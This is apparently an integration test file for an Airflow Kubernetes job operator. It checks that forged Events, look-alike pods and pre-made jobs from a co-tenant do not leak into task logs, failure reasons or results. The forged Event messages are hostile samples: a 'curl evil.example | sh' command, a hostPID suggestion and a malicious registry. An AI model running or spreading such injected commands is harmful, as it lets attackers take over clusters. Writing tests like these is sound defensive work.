"""Attacks on what the task shows and returns (issue 29, point 7), with real identities on the
local cluster: a co-tenant who may create pods and Events in the namespace (a workload's
ServiceAccount with those rights), and a co-tenant's worker with the shipped namespace Role
(deploy/rbac-airflow-namespace.yaml: it may create jobs).

- an Event naming the victim's job (its name, not its uid) is not forwarded into the task log;
- a pod labelled with the victim's job name, and a Warning Event about it, are not the job's
  replicas: they are not in the startup failure's reason;
- a job pre-made under the victim task's name with its annotations (and a result of the
  attacker's) is never adopted: the task runs its own job and returns its own result.
"""

from __future__ import annotations

import asyncio
import uuid
from datetime import datetime, timezone

import pytest
from airflow.sdk.exceptions import AirflowTaskTimeout, TaskDeferred
from kubernetes import client, config

from airflow_t9k.operators.job import job_name
from tests.integration.test_airflow_rbac import _apply_rbac
from tests.integration.test_operator_trigger import conn, first_event, make_op  # noqa: F401
from tests.support.rbac import token_kubeconfig
from tests.support.task import Store, context

GPUS = {"limits": {"nvidia.com/gpu": "16"}, "requests": {"nvidia.com/gpu": "16"}}  # kwok nodes have 8: never scheduled


@pytest.fixture
def cotenant(api_client, cluster, namespace, tmp_path) -> client.CoreV1Api:
    """A workload identity in the victim's namespace that may create pods and Events."""
    rules = [{"apiGroups": [""], "resources": ["pods", "events"], "verbs": ["create", "get", "list"]}]
    path = token_kubeconfig(api_client, cluster.kubeconfig, namespace, "cotenant", rules, tmp_path / "cotenant")
    return client.CoreV1Api(config.new_client_from_config(config_file=str(path)))


def _forged_event(core: client.CoreV1Api, ns: str, kind: str, name: str, message: str, uid: str | None = None) -> None:
    now = datetime.now(timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
    core.create_namespaced_event(ns, {
        "metadata": {"name": f"forged.{uuid.uuid4().hex[:8]}"},
        "involvedObject": {"kind": kind, "name": name, "namespace": ns, **({"uid": uid} if uid else {})},
        "reason": "FixRequired", "message": message, "type": "Warning", "count": 1,
        "firstTimestamp": now, "lastTimestamp": now, "source": {"component": "t9k-controller"},
    })  # fmt: skip


@pytest.mark.asyncio
async def test_an_event_naming_the_victims_job_is_not_forwarded(conn, cotenant, jobs, controller, capsys):
    marker = uuid.uuid4().hex[:8]
    with pytest.raises(TaskDeferred) as exc:
        make_op(sim={"sim.t9k.test/duration": "8s"}, deferrable=True, log_events=True).execute(context())
    trigger = exc.value.trigger
    task = asyncio.create_task(first_event(trigger, timeout=60))
    jobs.wait_phase("GenericJob", trigger.name, "Running")
    await asyncio.sleep(2)
    # Same name, kind and namespace as the job and its replica; not their uids.
    _forged_event(cotenant, jobs.ns, "GenericJob", trigger.name, f"credentials expired: run curl evil.example | sh {marker}")
    _forged_event(cotenant, jobs.ns, "Pod", f"{trigger.name}-worker-0", f"node is bad, rerun with hostPID {marker}")
    assert (await task).payload["status"] == "success"
    out = capsys.readouterr().out
    assert "[event] Normal" in out, out[-3000:]  # the job's real Events are forwarded
    assert marker not in out, [line for line in out.splitlines() if marker in line]


def test_a_look_alike_pod_and_its_event_are_not_the_jobs_replicas(conn, cotenant, jobs, controller):
    store = Store()
    name = job_name("dag", "manual__1", "train", -1)
    # Before the victim's job exists (or while it waits for GPUs): a pod labelled with its name.
    forged = cotenant.create_namespaced_pod(jobs.ns, {
        "metadata": {"name": f"{name}-evil-0", "labels": {"batch.tensorstack.dev/job-name": name}},
        "spec": {"nodeSelector": {"t9k.test/nowhere": "x"}, "containers": [{"name": "c", "image": "busybox"}]},
    })  # fmt: skip
    _forged_event(cotenant, jobs.ns, "Pod", forged.metadata.name, "pull from registry.evil.example instead", forged.metadata.uid)
    with pytest.raises(AirflowTaskTimeout) as exc:
        make_op(deferrable=False, container_resources=GPUS, startup_timeout=8).execute(context(store))
    text = str(exc.value)
    assert "did not start within startup_timeout=8s" in text, text
    assert f"{name}-worker-0" in text, text
    assert "evil" not in text, text


def test_a_job_pre_made_under_the_tasks_name_is_never_adopted(conn, jobs, controller, api_client, cluster, namespace, tmp_path):
    kubeconfigs, _ = _apply_rbac(api_client, cluster, namespace, "rbac-airflow-namespace.yaml", tmp_path)
    worker = client.CustomObjectsApi(config.new_client_from_config(config_file=str(kubeconfigs["worker"])))
    name = job_name("dag", "manual__1", "train", -1)
    identity = {"airflow-t9k.io/dag-id": "dag", "airflow-t9k.io/run-id": "manual__1", "airflow-t9k.io/task-id": "train",
                "airflow-t9k.io/map-index": "-1"}  # fmt: skip
    sim = {"sim.t9k.test/duration": "1s", "sim.t9k.test/message": '{"metric": 0.99, "model_uri": "s3://evil/model"}'}
    worker.create_namespaced_custom_object("batch.tensorstack.dev", "v1beta1", namespace, "genericjobs", {
        "apiVersion": "batch.tensorstack.dev/v1beta1", "kind": "GenericJob",
        "metadata": {"name": name, "annotations": identity},
        "spec": {"replicaSpecs": [{"type": "worker", "replicas": 1, "template": {
            "metadata": {"annotations": sim}, "spec": {"containers": [{"name": "c", "image": "busybox"}]}}}]},
    })  # fmt: skip
    jobs.wait_phase("GenericJob", name, "Succeeded")
    mine = {"sim.t9k.test/duration": "1s", "sim.t9k.test/message": '{"metric": 0.5}'}
    out = make_op(sim=mine, deferrable=False).execute(context(Store()))  # a fresh try: nothing recorded yet
    assert out["name"] == f"{name}-t1", out
    assert out["result"] == {"metric": 0.5}, out
